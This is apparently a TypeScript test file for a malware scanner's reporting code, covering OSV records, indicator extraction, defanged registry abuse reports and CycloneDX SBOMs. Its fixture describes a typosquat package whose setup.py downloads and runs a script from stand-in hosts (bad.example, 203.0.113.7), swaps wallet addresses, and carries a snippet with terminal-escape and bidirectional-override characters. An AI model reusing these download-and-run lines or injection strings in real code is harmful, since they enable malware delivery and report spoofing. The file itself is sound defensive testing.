import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { Report } from '../model/report.ts';
import { cycloneDxOf } from './cyclonedx.ts';
import { indicatorsOf } from './indicators.ts';
import { osvRecord } from './osv.ts';
import { registryReport } from './registry-report.ts';

/** The look-alike this product starts from, its evidence forged: hosts and wallet are nobody's. */
const REPORT: Report = {
  target: 'colourama-0.1.6.tar.gz', package: { ecosystem: 'pypi', name: 'colourama', version: '0.1.6', purl: 'pkg:pypi/colourama@0.1.6', sha256: 'ab'.repeat(32) },
  verdict: 'malicious', score: 98, seconds: 0.1, reasons: [], coverage: { files: 3, bytes: 10, read: 3, unread: [] },
  story: ['At install time setup.py downloads a script from http://bad.example/grab.vbs', 'The script replaces a copied wallet address with 1MadeUpAddressForTestsUnused234567'],
  findings: [
    { rule: 'lookalike-name', family: 'pose', severity: 'high', confidence: 'high', stage: 'install', message: 'colourama is the British spelling of colorama', attack: ['T1036.005'], locations: [] },
    { rule: 'download-and-run', family: 'reach', severity: 'critical', confidence: 'high', stage: 'install', message: 'Downloads http://bad.example/grab.vbs and runs it', attack: ['T1105'],
      locations: [{ path: 'setup.py', line: 17, column: 1, snippet: 'urlopen("http://203.0.113.7:8080/x") \u001b[31m# ![x](http://bad.example)\u202e', role: 'primary', layers: ['base64'] }] },
  ],
};

const OPTIONS = { now: Date.parse('2026-01-02T03:04:05.678Z'), version: '1.0.0' };

/** The parts of OSV 1.7 that a contribution uses, written down from its documentation, closed so that a misspelt field fails. */
const text = { type: 'string', minLength: 1 };
const time = { type: 'string', pattern: '^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ$' };
const texts = { type: 'array', items: text, minItems: 1 };
function closed(properties: object, required: readonly string[]): object {
  return { type: 'object', properties, required, additionalProperties: false };
}
const event = { oneOf: ['introduced', 'fixed', 'last_affected'].map((kind) => closed({ [kind]: text }, [kind])) };
const OSV_CONTRIBUTION = closed({
  schema_version: { type: 'string', pattern: '^1\\.\\d+\\.\\d+$' }, modified: time, published: time, details: text,
  affected: { type: 'array', minItems: 1, maxItems: 1, items: { ...closed({
    package: closed({ ecosystem: { enum: ['PyPI', 'npm', 'RubyGems', 'Go', 'Maven'] }, name: text }, ['ecosystem', 'name']), versions: texts,
    ranges: { type: 'array', minItems: 1, items: closed({ type: { enum: ['SEMVER', 'ECOSYSTEM'] }, events: { type: 'array', minItems: 1, items: event } }, ['type', 'events']) },
    database_specific: { type: 'object' },
  }, ['package']), anyOf: [{ required: ['versions'] }, { required: ['ranges'] }] } },
  credits: { type: 'array', minItems: 1, items: closed({ name: text, type: { enum: ['FINDER', 'TOOL'] }, contact: texts }, ['name', 'type']) },
  database_specific: closed({ iocs: closed({ domains: texts, urls: texts, ip_addresses: texts }, []) }, []),
}, ['schema_version', 'modified', 'details', 'affected', 'credits']);

for (const [what, report] of [
  ['with a version', REPORT], ['without one', { ...REPORT, package: { ecosystem: 'npm', name: '@s/x' } as const }], ['without indicators', { ...REPORT, story: ['It does harm'], findings: [] }],
] as const) {
  test(`the OSV record is valid ${what}`, () => {
    const validate = new Ajv2020({ allErrors: true, strict: false }).compile(OSV_CONTRIBUTION);
    const record = osvRecord([report], { ...OPTIONS, finder: 'Ada', contact: 'mailto:ada@x.example' });
    assert.ok(validate(record), JSON.stringify(validate.errors));
  });
}

test('the OSV record names package, versions and indicators as they are', () => {
  const record = JSON.parse(JSON.stringify(osvRecord([REPORT, { ...REPORT, package: { ecosystem: 'pypi', name: 'colourama', version: '0.1.7' } }], OPTIONS))) as Record<string, unknown>;
  assert.deepEqual([record['modified'], (record['affected'] as { versions: unknown }[])[0]?.versions], ['2026-01-02T03:04:05Z', ['0.1.6', '0.1.7']]);
  assert.deepEqual(record['database_specific'], { iocs: { domains: ['bad.example'], urls: ['http://bad.example/grab.vbs', 'http://203.0.113.7:8080/x', 'http://bad.example'], ip_addresses: ['203.0.113.7'] } });
  assert.match(String(record['details']), /1\. At install time setup\.py downloads/);
  assert.equal(osvRecord([{ ...REPORT, package: { ecosystem: 'generic', name: 'x' } }], OPTIONS), undefined);
});

test('indicators: no private address, no unknown part, wallets', () => {
  const told = (story: string): object => indicatorsOf([{ ...REPORT, findings: [], story: [story] }]);
  const none = { urls: [], domains: [], addresses: [], wallets: [] };
  for (const harmless of ['http://127.0.0.1/x 10.0.0.1 192.168.1.1 172.16.0.1 169.254.1.1 999.1.1.1', 'version 1.2.3.4.5', 'http://localhost/x', 'http://\uF8FF.example/x', '0'.repeat(40)]) assert.deepEqual(told(harmless), none, harmless);
  assert.deepEqual(told('198.51.100.9, bc1qmadeupaddressfrtestsunused0000000 0x00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee'), { ...none, addresses: ['198.51.100.9'], wallets: ['bc1qmadeupaddressfrtestsunused0000000', '0x00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee'] });
});

for (const isPlain of [true, false]) {
  test(`the text for a registry (${isPlain ? 'plain' : 'Markdown'}) says all, and nothing in it can be opened or acts`, () => {
    const told = registryReport([REPORT], { version: '1.0.0', isPlain, finder: 'Ada' });
    for (const part of ['colourama', 'pkg:pypi/colourama@0.1.6', 'ab'.repeat(32), 'British spelling', 'setup.py:17', 'base64', 'step by step', 'hxxp://bad[.]example/grab.vbs', '203.0.113[.]7', 'How it was found', 'Ada', '1MadeUpAddressForTestsUnused234567']) {
      assert.ok(told.replaceAll('\\', '').includes(part), `${part}\n${told}`);
    }
    assert.doesNotMatch(told, /http:\/\/|\u001b|\u202e/);
  });
}

for (const isPlain of [true, false]) {
  test(`what was added to the original stands in the report, and nothing of the reporter's machine (${isPlain ? 'plain' : 'Markdown'})`, () => {
    const lines = Array.from({ length: 50 }, (_, index) => ({ line: index + 1, text: index === 3 ? 'urlopen("http://bad.example/x") \u001b[2J' : `line ${index}` }));
    const original = { target: '/home/ada/colorama-0.3.9.tar.gz', same: 9, added: [{ path: 'setup.py', stage: 'install' as const, lines, isChanged: true as const }, { path: 'README', stage: 'unreachable' as const, lines, isChanged: true as const }] };
    const oddity = { ...REPORT.findings[0], rule: 'archive-oddity', message: 'a member stands twice' };
    const told = registryReport([{ ...REPORT, target: '/home/ada/samples/colourama-0.1.6.tar.gz', original, findings: [...REPORT.findings, { ...REPORT.findings[1], ...oddity } as Report['findings'][number]] }], { version: '1.0.0', isPlain }).replaceAll('\\', '');
    assert.doesNotMatch(told, /home|ada\/|http:\/\/|\u001b|README/);
    for (const part of ['colourama-0.1.6.tar.gz', 'What it adds to colorama-0.3.9.tar.gz', '+4 urlopen("hxxp://bad[.]example/x")', '… and 10 more lines']) assert.ok(told.includes(part), `${part}\n${told}`);
    const [imitation = '', rest = ''] = told.split('step by step');
    assert.match(imitation, /British spelling/);
    assert.doesNotMatch(imitation, /stands twice/);
    assert.match(rest, /stands twice/);
  });
}

test('the SBOM lists each package once, with what is wrong and what was let pass', () => {
  const clean: Report = { ...REPORT, target: 'npm:@s/a@1.0.0', package: { ecosystem: 'npm', name: '@s/a', version: '1.0.0', purl: 'pkg:npm/%40s/a@1.0.0' }, verdict: 'clean', score: 0, findings: [], story: [], lockedBy: ['package-lock.json:5'] };
  const passed: Report = { ...REPORT, target: 'x', package: { ecosystem: 'pypi', name: 'x', version: '1', purl: 'pkg:pypi/x@1' }, verdict: 'clean', exception: { reason: 'looked at', approvedBy: 'ada', expires: '2027-01-01' } };
  const bom = JSON.parse(cycloneDxOf([clean, REPORT, passed], { ...OPTIONS, serial: '00000000-0000-4000-8000-000000000000', project: 'p' })) as {
    components: { 'bom-ref': string; group?: string; name: string; hashes?: unknown }[]; vulnerabilities: { id: string; affects: { ref: string }[]; analysis: { state: string; detail: string } }[]; dependencies: { dependsOn: string[] }[]; compositions: { aggregate: string }[];
  };
  assert.deepEqual(bom.components.map((each) => [each.group, each.name]), [['@s', 'a'], [undefined, 'colourama'], [undefined, 'x']]);
  assert.deepEqual(bom.dependencies[0]?.dependsOn, bom.components.map((each) => each['bom-ref']));
  assert.deepEqual(bom.vulnerabilities.map((each) => [each.id, each.affects[0]?.ref, each.analysis.state]), [
    ['ASSAY-lookalike-name', 'pkg:pypi/colourama@0.1.6', 'exploitable'], ['ASSAY-download-and-run', 'pkg:pypi/colourama@0.1.6', 'exploitable'], ['ASSAY-lookalike-name', 'pkg:pypi/x@1', 'false_positive'], ['ASSAY-download-and-run', 'pkg:pypi/x@1', 'false_positive'],
  ]);
  assert.equal(bom.compositions[0]?.aggregate, 'complete');
  assert.match(cycloneDxOf([{ ...clean, verdict: 'unknown' }], { ...OPTIONS, serial: '', project: '' }), /"incomplete"/);
});
